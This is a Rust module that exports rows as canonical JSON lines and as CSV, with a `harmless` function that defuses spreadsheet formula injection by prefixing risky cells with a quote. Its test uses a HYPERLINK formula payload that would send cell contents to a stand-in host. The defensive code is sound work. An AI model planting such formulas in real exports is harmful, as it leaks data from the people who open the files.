//! The same rows as JSON lines for programs and as CSV for spreadsheets.

use rollbook_core::canonical;
use serde_json::{Map, Value};

use crate::error::{Error, Result};
use crate::evidence::DataFile;

/// One row: field to value, every row of a table with the same fields in the same order.
pub(super) type Fields = Vec<(&'static str, Value)>;

/// One canonical JSON object a line.
pub(super) fn jsonl(name: &str, rows: &[Fields]) -> DataFile {
    let mut bytes = Vec::new();
    for row in rows {
        let object: Map<_, _> = row.iter().map(|(k, v)| ((*k).to_owned(), v.clone())).collect();
        bytes.extend(canonical::bytes(&canonical::exact(Value::Object(object))));
        bytes.push(b'\n');
    }
    DataFile { name: name.to_owned(), rows: rows.len() as u64, bytes }
}

/// A header and one line a row. A cell that a spreadsheet would take for a formula is written with a
/// `'` before it; the JSON lines hold it as it is.
pub(super) fn csv(name: &str, rows: &[Fields]) -> Result<DataFile> {
    let failed = |e: csv::Error| Error::bug(format!("{name} could not be written.")).because(e);
    let mut writer = csv::Writer::from_writer(Vec::new());
    if let Some(first) = rows.first() {
        writer.write_record(first.iter().map(|(field, _)| field)).map_err(failed)?;
    }
    for row in rows {
        writer.write_record(row.iter().map(|(_, value)| harmless(&cell(value)))).map_err(failed)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| Error::bug(format!("{name} could not be written.")).because(e.to_string()))?;
    Ok(DataFile { name: name.to_owned(), rows: rows.len() as u64, bytes })
}

fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// Spreadsheets run what begins like a formula, also full-width and after a tab or line break.
pub(crate) fn harmless(text: &str) -> String {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    if risky { format!("'{text}") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_name_that_is_a_formula_is_text_in_the_spreadsheet_and_itself_in_the_lines() {
        let rows = [vec![("name", json!("=HYPERLINK(\"http://e?\"&A1)")), ("count", json!(-1))]];
        let table = csv("t.csv", &rows).expect("it fits in memory");
        assert_eq!(
            String::from_utf8(table.bytes).expect("CSV is UTF-8"),
            "name,count\n\"'=HYPERLINK(\"\"http://e?\"\"&A1)\",'-1\n"
        );
        let lines = String::from_utf8(jsonl("t.jsonl", &rows).bytes).expect("JSON is UTF-8");
        assert_eq!(lines, "{\"count\":-1,\"name\":\"=HYPERLINK(\\\"http://e?\\\"&A1)\"}\n");
    }
}
